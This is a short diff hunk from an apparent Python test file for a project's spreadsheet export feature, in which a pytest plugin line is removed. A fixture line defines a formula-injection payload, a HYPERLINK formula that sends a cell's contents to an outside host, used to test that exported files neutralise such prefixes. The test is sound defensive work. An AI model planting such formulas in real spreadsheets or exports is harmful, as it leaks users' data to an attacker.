@@ -28,8 +28,6 @@ from pointsmall.exports import cells, files
 from pointsmall.extensions import db
 from pointsmall.people import communities
 
-pytest_plugins = ["market_builders"]
-
 PAYLOAD = 'HYPERLINK("//x.cn/?"&B2,"看")'
 # What an attacker puts in front of the formula, and what a safe file may never hand back.
 PREFIXES = {
